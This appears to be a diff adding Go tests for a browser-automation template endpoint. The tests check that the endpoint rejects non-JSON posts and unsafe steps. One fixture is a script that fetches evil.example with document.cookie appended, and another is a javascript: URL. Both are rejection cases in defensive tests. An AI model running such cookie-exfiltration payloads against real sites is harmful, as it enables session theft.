@@ -0,0 +1,84 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+// withTemplates gives the test an empty template store
+func withTemplates(t *testing.T) {
+	t.Helper()
+	previous := templates
+	templates = NewTemplateStore()
+	t.Cleanup(func() { templates = previous })
+}
+
+func postTemplate(body, contentType string) *httptest.ResponseRecorder {
+	req := httptest.NewRequest(http.MethodPost, "/templates", strings.NewReader(body))
+	if contentType != "" {
+		req.Header.Set("Content-Type", contentType)
+	}
+	rec := httptest.NewRecorder()
+	templatesHandler(rec, req)
+	return rec
+}
+
+func TestTemplatePostRequiresJSON(t *testing.T) {
+	withTemplates(t)
+	withAuthToken(t, "")
+	body := `{"name": "login", "commands": [{"action": "click", "selector": "#login"}]}`
+
+	// What a cross-origin form or fetch without a preflight can send
+	for _, contentType := range []string{"", "text/plain", "application/x-www-form-urlencoded"} {
+		if rec := postTemplate(body, contentType); rec.Code != http.StatusUnsupportedMediaType {
+			t.Errorf("Content-Type %q: status = %d, want 415", contentType, rec.Code)
+		}
+	}
+	if _, ok := templates.Get("login"); ok {
+		t.Fatal("template stored from a non-JSON request")
+	}
+
+	if rec := postTemplate(body, "application/json; charset=utf-8"); rec.Code != http.StatusNoContent {
+		t.Errorf("JSON request: status = %d, want 204: %s", rec.Code, rec.Body)
+	}
+	if _, ok := templates.Get("login"); !ok {
+		t.Error("template from a JSON request was not stored")
+	}
+}
+
+func TestTemplatePostRejectsUnsafeSteps(t *testing.T) {
+	withTemplates(t)
+	withAuthToken(t, "")
+
+	tests := []struct {
+		name, commands string
+	}{
+		{"evaluate", `[{"action": "evaluate", "script": "fetch('https://evil.example/?c=' + document.cookie)"}]`},
+		{"unknown action", `[{"action": "set_cookie", "cookie": {"name": "a", "value": "b"}}]`},
+		{"bad selector", "[{\"action\": \"click\", \"selector\": \"a[href`\"}]"},
+		{"bad frame selector", `[{"action": "click", "selector": "#ok", "frameSelector": "iframe[src="}]`},
+		{"javascript URL", `[{"action": "navigate", "url": "javascript:alert(1)"}]`},
+	}
+	for _, tt := range tests {
+		rec := postTemplate(`{"name": "bad", "commands": `+tt.commands+`}`, "application/json")
+		if rec.Code != http.StatusBadRequest {
+			t.Errorf("%s: status = %d, want 400", tt.name, rec.Code)
+		}
+	}
+	if _, ok := templates.Get("bad"); ok {
+		t.Error("unsafe template was stored")
+	}
+}
+
+func TestTemplateStepsMayUsePlaceholders(t *testing.T) {
+	err := NewTemplateStore().Set("search", []CommandPayload{
+		{Action: "navigate", URL: "{{site}}"},
+		{Action: "input", Selector: "#{{field}}", Text: "{{query}}"},
+		{Action: "navigate", URL: "https://example.com/search?q={{query}}"},
+	})
+	if err != nil {
+		t.Errorf("Set: %v", err)
+	}
+}